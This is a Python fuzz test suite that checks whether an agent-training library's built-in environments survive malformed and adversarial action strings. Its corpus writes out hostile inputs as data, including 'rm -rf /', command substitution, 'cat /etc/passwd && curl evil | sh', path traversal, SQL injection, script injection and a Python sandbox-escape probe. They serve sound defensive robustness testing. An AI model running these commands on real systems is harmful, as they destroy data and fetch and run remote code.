"""Action fuzz: every built-in environment survives any action string.

For each environment the built-in plugins register (taken from the plugin manager, so a
new built-in is fuzzed automatically), reset on a task and step through a corpus of
adversarial actions (empty and whitespace replies, 10,000-digit and non-finite numbers,
RTL marks, emoji, lone surrogates, NUL and control characters, 1 MB strings, malformed
and 10,000-deep JSON, broken ``<tool_call>`` blocks, HTML/script and shell injection,
Python that loops forever or raises, format strings), then through a few hundred
seeded random mixtures of them. Every ``step`` must return a ``StepResult`` with a finite
float reward and a bool ``done`` (when not done, an observation of UTF-8-encodable string
messages) within ``STEP_LIMIT_S``, and no server an environment runs may log a crashed
request handler; a finished episode resets on the next task.

The code environment runs fenced Python in the sandbox: only a handful of corpus
actions hold a fenced block (the random mixtures never contain a backtick), and its
sandbox timeouts are lowered so that the one infinite loop costs about two seconds.
"""

from __future__ import annotations

import contextlib
import json
import math
import random
import signal
import threading
import time
from typing import Any, Iterator, Mapping

import pytest

from agent_lightning.envs.guess_number import GuessNumberEnv
from agent_lightning.plugins import BUILTIN_PLUGINS, build_plugin_manager
from agent_lightning.types import Observation, StepResult

EXPECTED_BUILTINS = {"guess-number", "tool-use", "code", "web", "api"}
STEP_LIMIT_S = 5.0  # a robustness bound (no hang, no quadratic blow-up), not a benchmark
HANG_S = 30.0  # a step still running after this is interrupted (SIGALRM) and reported as hung
RANDOM_ACTIONS = 1000
SEED = 20240611

# Options for environments whose defaults would make one hostile action slow (a
# sandboxed infinite loop runs until timeout_s); environments not named use defaults.
OPTIONS: dict[str, dict[str, Any]] = {
    "code": {"timeout_s": 2.0, "per_test_timeout_s": 0.25},
}

_MANAGER = build_plugin_manager(autoload=False, strict=True)
BUILTIN_ENVS = sorted(e.name for e in _MANAGER.environments if e.source.plugin in BUILTIN_PLUGINS)


# ----------------------------------------------------------------------------- corpus

MB = 1_000_000
DEEP = 10_000


def _fenced(code: str) -> str:
    return f"Here is my solution:\n```python\n{code}\n```\n"


def _call(name: str, arguments: str) -> str:
    return f'<tool_call>{{"name": "{name}", "arguments": {arguments}}}</tool_call>'


def adversarial_actions() -> list[tuple[str, str]]:
    """``(label, action)`` pairs; the labels name failures in the report."""
    huge = "9" * 10_000
    call = '{"name": "calculator", "arguments": {"expression": "2+2"}}'
    corpus: dict[str, str] = {
        # empty and whitespace
        "empty": "",
        "space": " ",
        "newline": "\n",
        "mixed whitespace": "\t\r\n \x0b\x0c\u00a0\u2003\u3000\u2028\u2029",
        "1 MB of newlines": "\n" * MB,
        "1 MB of spaces then 7": " " * MB + "7",
        # numbers
        "10k digits": huge,
        "negative 10k digits": "-" + huge,
        "10k digits in a sentence": f"my guess is {huge} ok",
        "10k zeros then 7": "0" * 10_000 + "7",
        "4301 digits": "1" + "0" * 4300,
        "arabic-indic 10k digits": "\u0669" * 10_000,
        "fullwidth digits": "\uff17",
        "superscript two": "\u00b2",
        "negative": "-1",
        "zero": "0",
        "minus zero": "-0",
        "2**64": str(2**64),
        "-2**63": str(-2**63),
        "float": "3.14159",
        "float overflow": "1e309",
        "float underflow": "1e-400",
        "nan": "NaN",
        "inf": "inf",
        "-inf": "-Infinity",
        "hex": "0x7fffffff",
        "underscored": "1_000_000",
        # unicode
        "rtl marks": "\u202e\u200f\u200e 5 \u202c\u2066\u2069",
        "emoji": "\U0001f600\U0001f4a9\U0001f3f3\ufe0f\u200d\U0001f308" * 200,
        "zero width": "\u200b\u200c\u200d\ufeff\u2060" * 100,
        "lone surrogates": "\ud800 click 1 \udfff \udc80\udcff",
        "surrogate pair halves": "\ud83d" + "7" + "\ude00",
        "nul bytes": "\x00" * 100,
        "nul inside": "click\x001",
        "control characters": "".join(chr(i) for i in range(32)) + "\x7f\x85\x9b",
        "combining marks": "a\u0301\u0302\u0303" * 2_000,
        "max code point": "\U0010ffff\ufffe\uffff",
        "bidi override answer": 'answer "\u202edone\u202c"',
        # very long strings
        "1 MB of x": "x" * MB,
        "1 MB of click lines": "click 1\n" * (MB // 8),
        "1 MB of backticks": "`" * MB,
        "1 MB of fences without newline": "```" * (MB // 3),
        "1 MB of tool_call tags": "<tool_call>" * (MB // 11),
        "1 MB of answer tags": "<answer>" * (MB // 8),
        "1 MB quoted answer": 'answer "' + "x" * MB,
        "1 MB type": 'type 1 "' + "y" * MB + '"',
        "1 MB GET path": "GET /" + "a" * MB,
        "1 MB request line": "GET" + " " * MB + "/todos",
        "1 MB def lines": "def " * (MB // 4),
        # malformed and deeply nested JSON
        "deep brackets": "[" * DEEP + "]" * DEEP,
        "deep braces": '{"a":' * DEEP + "1" + "}" * DEEP,
        "unclosed deep": "[" * DEEP,
        "bare call unclosed": '{"name": "calculator"',
        "bare call deep args": '{"name": "calculator", "arguments": ' + "[" * DEEP + "]" * DEEP + "}",
        "json with nan": '{"name": "calculator", "arguments": {"expression": NaN}}',
        "json 10k digit number": '{"name": "kv_set", "arguments": {"key": "k", "value": ' + huge + "}}",
        # <tool_call> wrappers
        "tool_call broken json": '<tool_call>{"name": "calculator", "arguments": {"expression": "1+1"}</tool_call>',
        "tool_call unclosed": "<tool_call>" + call,
        "tool_call deep": "<tool_call>" + "[" * DEEP + "]" * DEEP + "</tool_call>",
        "tool_call nested tags": f"<tool_call><tool_call>{call}</tool_call></tool_call></tool_call>",
        "tool_call null name": '<tool_call>{"name": null, "arguments": {}}</tool_call>',
        "tool_call wrong types": ('<tool_call>{"name": "search", "arguments": {"query": 5, "top_k": "3"}}</tool_call>'
                                  '<tool_call>{"name": ["kv_get"], "arguments": []}</tool_call>'),
        "tool_call huge argument": _call("search", '{"query": "' + "q" * 100_000 + '"}'),
        "tool_call huge number": _call("kv_set", '{"key": "k", "value": ' + "9" * 900 + "}"),
        "tool_call 1e999": _call("kv_set", '{"key": "k", "value": 1e999}'),
        "tool_call string arguments": _call("calculator", '"{\\"expression\\": "'),
        "tool_call hostile expression": _call("calculator", '{"expression": "9**9**9**9"}'),
        "tool_call dunder": _call("calculator", '{"expression": "().__class__.__bases__[0].__subclasses__()"}'),
        "many tool calls": f"<tool_call>{call}</tool_call>" * 50,
        "tool_call surrogate key": _call("kv_set", '{"key": "\\ud800", "value": "\\udfff"}'),
        "answer huge number": "<answer>" + "9" * 7_000 + "</answer>",
        "answer surrogate": "<answer>\ud800</answer>",
        # HTML / script injection
        "script": "<script>alert(1)</script>",
        "img onerror": '<img src=x onerror="alert(1)">',
        "closing tags": "</title></body></html><h1>x",
        "char refs": "&lt;&#0;&#xD800;&#99999999;&amp;",
        "html in type": 'type 1 "<script>alert(1)</script>"',
        # shell metacharacters and paths
        "rm": "; rm -rf / #",
        "command substitution": "$(reboot) `id` ${IFS}",
        "pipe": "| cat /etc/passwd && curl evil | sh",
        "sql": "'\"; DROP TABLE todos; --",
        "path traversal": "GET /../../../../etc/passwd",
        "absolute url": "GET http://example.com/",
        "protocol relative": "GET //evil.example/",
        "header injection": "GET /todos\r\nHost: evil\r\n\r\n",
        "percent nul": "GET /todos/%00",
        "percent garbage": "GET /todos?done=%zz%%%",
        "nul in path": "GET /\x00",
        "surrogate path": "GET /\ud800",
        "surrogate body": 'POST /todos {"title": "\ud800"}',
        "deep body": "POST /todos " + "[" * DEEP + "]" * DEEP,
        "10k digit body": 'PATCH /todos/1 {"priority": ' + huge + "}",
        "10k digit id": "GET /todos/" + huge,
        "huge query": "GET /todos?" + "a=1&" * 5_000,
        "lowercase method": "delete /todos/1",
        "unknown method": "OPTIONS /todos",
        "click huge": "click " + huge,
        "click negative": "click -1",
        "click zero": "click [0]",
        "type huge index": 'type 99999999999 "x"',
        "back": "back",
        # the web shop's home page (after an episode ends) has its search field at [9] and the
        # button at [10]: search for text that cannot be UTF-8 encoded, then for the renderer's
        # own NUL field markers, which the results page echoes
        "end the episode (surrogate search)": 'answer "x"',
        "type a surrogate search": 'type 9 "\ud800<b>&amp;\udfff"',
        "submit the surrogate search": "click 10",
        "end the episode (NUL search)": 'answer "x"',
        "type a NUL-marker search": 'type 9 "\x0099\x00 \x001\x00"',
        "submit the NUL-marker search": "click 10",
        "step on the NUL-marker results": "click 1",
        # format strings
        "format attribute": "{0.__class__}",
        "format subclasses": "{0.__class__.__mro__[1].__subclasses__()}",
        "format width": "{action!r:>{9999999999}}",
        "percent formats": "%s%n%x%p" * 100,
        "percent mapping": "%(secret)s {self} {} {{}}",
        # Python that loops forever or raises (run in the code environment's sandbox)
        "python infinite loop": _fenced("while True:\n    pass"),
        "python raise": _fenced("raise RuntimeError('boom')"),
        "python exit": _fenced("import sys\nsys.exit(0)"),
        "python os._exit": _fenced("import os\nos._exit(3)"),
        "python huge output": _fenced("print('x' * 10_000_000)"),
        "python deep recursion": _fenced("def f(n):\n    return f(n + 1)\nf(0)"),
        "python lone surrogate": _fenced("# \ud800\nx = '\udfff'"),
        "python nul byte": _fenced("x = 1\x00"),
    }
    return list(corpus.items())


_FRAGMENTS = (
    "click ", "click 1", "click 3", "type ", 'type 9 "', "back", "answer ", 'answer "', "done", "GET ", "POST ",
    "PATCH ", "PUT ", "DELETE ", "/todos", "/todos/1", "/", "?done=false&tag=work", "<tool_call>", "</tool_call>",
    "<answer>", "</answer>", '{"name": "calculator", "arguments": ', '{"expression": "', '{"query": "',
    '"', "'", "{", "}", "[", "]", ":", ",", "\n", " ", "\t", "\r\n", "null", "true", "NaN", "-Infinity",
    "1e999", "\\u0000", "\\ud800", "<script>", "</script>", "&#0;", "%s", "%n", "{0}", "{0.__class__}", "$(",
    "|", ";", "&&", "\x00", "\u202e", "\u200b", "\ufeff", "\U0001f600", "\ud800", "\udcff", "def f(x):",
    "while True: pass", "raise", "\\", "../", "%00",
)
_VALID = (
    "1", "5", "7", "10", "click 1", "click 2", "click 9", "back", 'type 9 "backpack"', "click 10", "GET /todos",
    "GET /todos/1", 'PATCH /todos/1 {"done": true}', 'POST /todos {"title": "x", "tags": ["work"]}',
    "DELETE /todos/2", "GET /openapi.json",
    '<tool_call>{"name": "calculator", "arguments": {"expression": "2+2"}}</tool_call>',
    '<tool_call>{"name": "kv_keys", "arguments": {}}</tool_call>',
    '<tool_call>{"name": "search", "arguments": {"query": "price"}}</tool_call>',
)
_ENDING = ('answer "x"', "<answer>4</answer>", "done")
# Valid action shapes with hostile slots (@n a number, @s a string, @j JSON), so that the
# arguments reach the code behind the parser: tools, HTTP requests, form submissions.
_TEMPLATES = (
    "click @n", 'type @n "@s"', "GET /todos@s", "GET /todos?@s", "GET /todos/@n", "DELETE /todos/@n",
    "POST /todos @j", "PATCH /todos/@n @j", "PUT /todos/@n @j", "I guess @n", "@j",
    '<tool_call>{"name": "@s", "arguments": @j}</tool_call>', "<tool_call>@j</tool_call>",
    '<tool_call>{"name": "calculator", "arguments": {"expression": "@s"}}</tool_call>',
    '<tool_call>{"name": "kv_set", "arguments": {"key": "@s", "value": @j}}</tool_call>',
    '<tool_call>{"name": "kv_get", "arguments": {"key": "@s"}}</tool_call>',
    '<tool_call>{"name": "search", "arguments": {"query": "@s", "top_k": @n}}</tool_call>',
    'answer "@s"', "<answer>@s</answer>",
)


def _random_piece(rng: random.Random) -> str:
    kind = rng.randrange(8)
    if kind == 0:
        return rng.choice(_FRAGMENTS)
    if kind == 1:
        return rng.choice([str(rng.randint(-10, 20)), str(rng.randint(-10**30, 10**30)),
                           "9" * rng.choice([50, 4_301, 10_000]), repr(rng.uniform(-1e308, 1e308)),
                           rng.choice(["nan", "inf", "-inf", "-0", "1e-400", ".5", "+7"])])
    if kind == 2:  # any code point, surrogates included
        return "".join(chr(rng.randrange(0x110000)) for _ in range(rng.randrange(1, 20)))
    if kind == 3:  # printable ASCII
        return "".join(chr(rng.randrange(32, 127)) for _ in range(rng.randrange(1, 40)))
    if kind == 4:  # control characters
        return "".join(chr(rng.choice([*range(32), 0x7F, *range(0x80, 0xA0)])) for _ in range(rng.randrange(1, 10)))
    if kind == 5:  # a long repetition
        return rng.choice(_FRAGMENTS) * rng.randint(10, 5_000)
    if kind == 6:  # deep nesting
        depth = rng.choice([10, 100, 1_000, 10_000])
        return rng.choice(["[", "{", "(", '{"a":']) * depth + rng.choice(["", "]" * depth, "}" * depth])
    return rng.choice(_VALID)


def _random_json(rng: random.Random, depth: int = 0) -> Any:
    kind = rng.randrange(8 if depth < 3 else 5)
    if kind == 0:
        return rng.choice([None, True, False, 0, -1, 2.5, float("nan"), float("inf"), 10**400, -(10**999), 1e308, ""])
    if kind == 1:
        return rng.randint(-10**20, 10**20)
    if kind == 2:
        return rng.random() * 10 ** rng.randint(-300, 300)
    if kind in (3, 4):
        return _random_piece(rng)
    if kind == 5:
        return [_random_json(rng, depth + 1) for _ in range(rng.randrange(4))]
    keys = ["title", "done", "tags", "priority", "due", "id", "expression", "query", "key", "value", "top_k",
            _random_piece(rng)]
    return {rng.choice(keys): _random_json(rng, depth + 1) for _ in range(rng.randrange(5))}


def _fill(rng: random.Random, template: str) -> str:
    parts = template.split("@")
    out = [parts[0]]
    for part in parts[1:]:
        slot, rest = part[0], part[1:]
        if slot == "n":
            roll = rng.random()
            if roll < 0.5:
                value = str(rng.randint(1, 12))  # an element, id or guess that may exist
            elif roll < 0.65:
                value = _random_piece(rng)
            else:
                value = rng.choice(["0", "-1", "9" * 10_000, "1e999", "nan", "2.5", str(2**70)])
        elif slot == "s":
            value = _random_piece(rng)
            value = json.dumps(value)[1:-1] if rng.random() < 0.5 else value  # well-formed inside a JSON string
        else:
            value = json.dumps(_random_json(rng)) if rng.random() < 0.8 else _random_piece(rng)
        out.append(value + rest)
    return "".join(out)


def random_actions(rng: random.Random, count: int) -> list[tuple[str, str]]:
    """Seeded mixtures of fragments and filled templates; never a backtick (so no sandbox runs
    in the code environment)."""
    out = []
    for i in range(count):
        roll = rng.random()
        if roll < 0.1:
            action = rng.choice(_VALID)
        elif roll < 0.13:
            action = rng.choice(_ENDING)
        elif roll < 0.5:
            action = _fill(rng, rng.choice(_TEMPLATES))
        else:
            action = "".join(_random_piece(rng) for _ in range(rng.randint(0, 8)))
        out.append((f"random #{i}", action.replace("`", "'")))
    return out


# ----------------------------------------------------------------------------- checks


def _problem(result: Any) -> str | None:
    """What is wrong with a step's result, or ``None``."""
    if not isinstance(result, StepResult):
        return f"returned {type(result).__name__}, not StepResult"
    if not isinstance(result.reward, float) or not math.isfinite(result.reward):
        return f"reward {result.reward!r} is not a finite float"
    if not isinstance(result.done, bool):
        return f"done {result.done!r} is not a bool"
    if not isinstance(result.info, Mapping):
        return f"info is a {type(result.info).__name__}"
    if not result.done:
        if not isinstance(result.observation, Observation) or not result.observation.messages:
            return f"not done but the observation is {result.observation!r:.80}"
        contents = [m.get("content") for m in result.observation.messages]
        if not all(isinstance(c, str) for c in contents):
            return "an observation message has no string content"
        try:  # the trainer tokenizes observations: an echoed lone surrogate would crash it there
            [c.encode("utf-8") for c in contents]
        except UnicodeEncodeError as exc:
            return f"an observation cannot be UTF-8 encoded: {exc}"
    return None


class _Hung(BaseException):
    """Raised into a step that ran past ``HANG_S`` (a BaseException: no ``except Exception`` swallows it)."""


def _on_alarm(signum: int, frame: Any) -> None:
    raise _Hung()


@contextlib.contextmanager
def _hang_guard() -> Iterator[None]:
    """Interrupts a step that hangs (a catastrophic regex checks for signals as it runs), so a
    hang fails this test instead of stalling the suite; a no-op off the main thread or POSIX."""
    if not hasattr(signal, "setitimer") or threading.current_thread() is not threading.main_thread():
        yield
        return
    previous = signal.signal(signal.SIGALRM, _on_alarm)
    try:
        signal.setitimer(signal.ITIMER_REAL, HANG_S)
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def _short(action: str) -> str:
    return ascii(action[:40]) + (f"... ({len(action)} chars)" if len(action) > 40 else "")


def fuzz(name: str, actions: list[tuple[str, str]]) -> dict[str, Any]:
    """Steps ``name`` through ``actions``; returns the problems found and timing stats."""
    env = _MANAGER.environments.create(name, **OPTIONS.get(name, {}))
    problems: list[str] = []
    slowest = (0.0, "")
    episodes = 0
    try:
        tasks = env.tasks("train")
        assert tasks, f"{name} has no train tasks"
        env.reset(tasks[0])
        for label, action in actions:
            start = time.perf_counter()
            try:
                with _hang_guard():
                    result = env.step(action)
                problem = _problem(result)
            except _Hung:
                result, problem = None, f"hung: interrupted after {HANG_S:.0f} s"
            except Exception as exc:  # noqa: BLE001 - every crash is collected and reported
                result, problem = None, f"raised {type(exc).__name__}: {str(exc)[:200]}"
            elapsed = time.perf_counter() - start
            slowest = max(slowest, (elapsed, label))
            if elapsed > STEP_LIMIT_S:
                problems.append(f"{label} {_short(action)}: step took {elapsed:.1f} s")
            if problem is not None:
                problems.append(f"{label} {_short(action)}: {problem}")
            if result is None or problem is not None or result.done:
                episodes += 1
                env.reset(tasks[episodes % len(tasks)])
    finally:
        env.close()
    return {"problems": problems, "slowest": slowest, "episodes": episodes}


# ----------------------------------------------------------------------------- tests


def test_every_builtin_environment_is_fuzzed():
    assert EXPECTED_BUILTINS <= set(BUILTIN_ENVS), BUILTIN_ENVS


@pytest.mark.parametrize("name", BUILTIN_ENVS)
def test_environment_survives_any_action(name, capfd):
    seed = SEED + sum(map(ord, name))  # deterministic per environment
    actions = adversarial_actions() + random_actions(random.Random(seed), RANDOM_ACTIONS)
    started = time.perf_counter()
    report = fuzz(name, actions)
    took = time.perf_counter() - started
    slowest_s, slowest_label = report["slowest"]
    with capfd.disabled():
        print(f"\n{name}: {len(actions)} actions, {report['episodes']} episodes in {took:.1f} s; "
              f"slowest step {slowest_s:.2f} s ({slowest_label})")
    assert report["problems"] == []
    # a server an environment runs (web, api) reports a crashed request handler on stderr, and
    # the agent only sees a dropped connection: that is a crash too
    err = capfd.readouterr().err
    assert "Traceback (most recent call last)" not in err, err[-3000:]


def test_guess_number_huge_guess_is_out_of_range_not_a_crash():
    env = GuessNumberEnv(max_number=10, max_turns=10)
    env.reset(env.tasks("train")[6])  # secret 7
    for action in ("9" * 10_000, "-" + "9" * 10_000, f"is it {'1' * 5_000}?", "11", "0"):
        result = env.step(action)
        assert not result.done and result.info["invalid"] == 1.0
        assert result.observation.messages[0]["content"] == "invalid . guess a number between 1 and 10 ."
    assert env.step("banana").observation.messages[0]["content"] == "invalid . guess a number between 1 and 10 ."
    assert env.step("0" * 10_000 + "7").info["success"]  # leading zeros do not make 7 out of range
